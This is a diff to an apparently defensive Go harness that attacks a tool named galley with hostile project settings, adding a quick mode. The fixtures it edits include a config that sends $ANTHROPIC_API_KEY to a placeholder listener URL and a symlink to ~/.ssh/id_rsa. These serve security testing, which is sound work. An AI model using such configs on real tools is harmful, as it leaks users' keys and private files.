@@ -6,10 +6,11 @@
 // project's settings. It prints a line for each attack and exits with 1 if one
 // succeeds.
 //
-//	go run ./ui/cli/hostile/secrets [-galley FILE]
+//	go run ./ui/cli/hostile/secrets [-galley FILE] [-quick]
 //
 // It works in a temporary directory that it removes, with its own home and made-up
-// keys, and listens only on the loopback address. It takes about five minutes.
+// keys, and listens only on the loopback address. It takes about five minutes; -quick
+// tries each attack on one command instead of all.
 package main
 
 import (
@@ -34,11 +35,12 @@ const patience = 20 * time.Second
 
 func main() {
 	program := flag.String("galley", "", "the built `program`; built here when it is not named")
+	quick := flag.Bool("quick", false, "try each attack on one command only")
 	flag.Parse()
 	root, err := os.MkdirTemp("", "galley-secrets-")
 	if err == nil {
 		defer os.RemoveAll(root)
-		err = run(root, *program)
+		err = run(root, *program, *quick)
 	}
 	if err != nil {
 		_ = os.RemoveAll(root)
@@ -53,13 +55,22 @@ type bench struct {
 	listener     string       // its address
 	asked        atomic.Int64 // requests received
 	key          string       // made up for each run
+	quick        bool
 	runs, bad    int
 }
 
-func run(root, program string) error {
+// commands returns the commands on which an attack is tried.
+func (b *bench) commands(all [][]string) [][]string {
+	if b.quick {
+		return all[:1]
+	}
+	return all
+}
+
+func run(root, program string, quick bool) error {
 	var random [12]byte
 	_, _ = rand.Read(random[:])
-	b := &bench{root: root, galley: program, key: "sk-" + "ant-" + hex.EncodeToString(random[:])}
+	b := &bench{root: root, galley: program, quick: quick, key: "sk-" + "ant-" + hex.EncodeToString(random[:])}
 	if program == "" {
 		b.galley = filepath.Join(root, "galley-built")
 		if out, err := exec.Command("go", "build", "-o", b.galley, "galley").CombinedOutput(); err != nil {
@@ -70,7 +81,7 @@ func run(root, program string) error {
 	if b.galley, err = filepath.Abs(b.galley); err != nil {
 		return err
 	}
-	l, err := net.Listen("tcp", "127.0.0.1:0")
+	l, err := listen()
 	if err != nil {
 		return err
 	}
@@ -91,6 +102,8 @@ func run(root, program string) error {
 	return nil
 }
 
+func listen() (net.Listener, error) { return net.Listen("tcp", "127.0.0.1:0") }
+
 // project is a directory with a home beside it.
 type project struct {
 	b         *bench
@@ -100,6 +113,7 @@ type project struct {
 func (b *bench) project(files map[string]string) *project {
 	root, _ := os.MkdirTemp(b.root, "p-")
 	p := &project{b, filepath.Join(root, "project"), filepath.Join(root, "home")}
+	_ = os.MkdirAll(p.dir, 0o755)
 	p.write("~/.ssh/id_rsa", b.key+"-of-a-file\n")
 	for name, text := range files {
 		p.write(name, strings.NewReplacer("LISTENER", b.listener, "MARK", p.mark()).Replace(text))
@@ -188,7 +202,7 @@ func (b *bench) secrets() {
 		"a key in Crush's settings":   {"crush.json": `{"options": {"context_paths": ["c-$ANTHROPIC_API_KEY.md"]}, "mcp": {"m": {"type": "http", "url": "http://LISTENER/$ANTHROPIC_API_KEY"}}}`},
 		"settings that link to a key": {"~/link": "opencode.json"},
 	} {
-		for _, args := range looks {
+		for _, args := range b.commands(looks) {
 			files["~/config/galley/config.toml"] = on
 			p := b.project(files)
 			if files["~/link"] != "" {
@@ -229,7 +243,7 @@ func (b *bench) git() error {
 		}
 		_, _ = f.WriteString(strings.NewReplacer("MARK", p.mark(), "LISTENER", b.listener).Replace(config))
 		_ = f.Close()
-		for _, args := range [][]string{{"render"}, {"vars"}, {"check"}, {"blocks"}, {"--plain"}, {"diff", "--against", "HEAD"}, {"scan"}, {"doctor"}, {"render", "--profile", "opencode"}} {
+		for _, args := range b.commands([][]string{{"render"}, {"vars"}, {"check"}, {"blocks"}, {"--plain"}, {"diff", "--against", "HEAD"}, {"scan"}, {"doctor"}, {"render", "--profile", "opencode"}}) {
 			p.write("a", "2\n") // so that git looks at its content
 			_ = os.Remove(p.mark())
 			out := p.start(b.galley, args...)
@@ -259,7 +273,7 @@ func (b *bench) policy() {
 			"opencode.json": `{"instructions": ["http://LISTENER/rules.md"]}`,
 		})
 		_ = os.Symlink(p.home+"/.ssh/id_rsa", p.dir+"/link")
-		for _, args := range [][]string{{"render", "t.md"}, {"blocks", "t.md"}, {"--plain", "t.md"}, {"render", "--profile", "opencode"}, {"scan"}} {
+		for _, args := range b.commands([][]string{{"render", "t.md"}, {"blocks", "t.md"}, {"--plain", "t.md"}, {"render", "--profile", "opencode"}, {"scan"}}) {
 			b.attack(p, "policy: "+name, args, "a file outside was read")
 		}
 	}
